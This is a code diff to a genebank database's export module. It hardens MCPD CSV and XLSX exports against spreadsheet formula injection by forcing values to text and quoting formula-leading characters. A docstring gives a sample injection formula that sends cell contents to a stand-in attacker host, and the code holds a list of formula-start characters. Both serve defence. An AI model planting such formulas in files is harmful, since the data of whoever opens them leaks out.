@@ -8,6 +8,7 @@ import logging
 import multiprocessing
 import operator
 import os
+import re
 import shutil
 import tempfile
 import threading
@@ -1364,6 +1365,8 @@ def export_mcpd(
 ) -> ExportResult:
     """Write the accessions as MCPD v2.1 (41 columns, standard order, UTF-8). Reads only.
 
+    The file is for exchange with other genebanks' software: CSV and TSV keep the values'
+    bytes as stored (no spreadsheet escaping, see csv_lines); XLSX cells are all text.
     Sensitive sites as iter_mcpd_rows gives them for this user (by default the operator).
     """
     path = Path(path)
@@ -1395,15 +1398,33 @@ def export_mcpd(
 
 def write_xlsx(target, rows: Iterable[list]) -> int:
     """MCPD rows as a workbook (sheet MCPD, header first), written as they come; target: a path
-    or a binary file. Returns the number of rows."""
+    or a binary file. Returns the number of rows.
+
+    Every value is written as text. openpyxl (3.1.5, Cell._bind_value) stores a str that starts
+    with "=" as a formula and one that spells an error code ("#N/A") as an error: a name such as
+    =HYPERLINK("http://evil.example/?d="&B2,"Open") would become a live formula in whoever
+    opens the file. Those values go in a cell whose type is set back to text after binding.
+    """
     from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.cell.cell import ERROR_CODES
 
     workbook = Workbook(write_only=True)
     sheet = workbook.create_sheet("MCPD")
     sheet.append(FIELDS)
+
+    def as_text(value):
+        # Only the few values openpyxl would not keep as text get a cell of their own: a cell
+        # object per value would slow a large export down for nothing.
+        if isinstance(value, str) and (value.startswith("=") or value in ERROR_CODES):
+            cell = WriteOnlyCell(sheet, value)
+            cell.data_type = "s"
+            return cell
+        return value
+
     count = 0
     for values in rows:
-        sheet.append(values)
+        sheet.append([as_text(value) for value in values])
         count += 1
     workbook.save(target)
     return count
@@ -1416,13 +1437,36 @@ class _Line:
         return text
 
 
+# What a spreadsheet program reads as the start of a formula (OWASP, CSV injection); a tab or a
+# carriage return first hides one from the eye.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")
+
+
+def spreadsheet_text(value: str) -> str:
+    """The value as a spreadsheet program shows it as text: a leading quote before anything it
+    would evaluate. Plain numbers (DECLATITUDE -12.5, ELEVATION -30) are numbers there, not
+    formulas, and stay as they are."""
+    if (
+        isinstance(value, str)
+        and value.startswith(_FORMULA_STARTS)
+        and not _PLAIN_NUMBER.fullmatch(value)
+    ):
+        return "'" + value
+    return value
+
+
 def csv_lines(rows: Iterable[list], bom: bool = True) -> Iterator[str]:
-    """MCPD rows as CSV text, line by line (for a streamed download). The byte order mark makes
-    spreadsheet programs read the file as UTF-8; the importer reads it either way."""
+    """MCPD rows as CSV text, line by line, for a download to open in a spreadsheet program.
+
+    The byte order mark makes spreadsheet programs read the file as UTF-8; every value goes
+    through spreadsheet_text so that none of them runs as a formula there. (The MCPD exchange
+    file of export_mcpd keeps the values' bytes: other genebanks' software reads it.)
+    """
     writer = csv.writer(_Line(), lineterminator="\n")
     yield ("\ufeff" if bom else "") + writer.writerow(FIELDS)
     for values in rows:
-        yield writer.writerow(values)
+        yield writer.writerow([spreadsheet_text(value) for value in values])
 
 
 def _write_delimited(fh, format: str, rows: Iterable[list], header: bool = True) -> int:
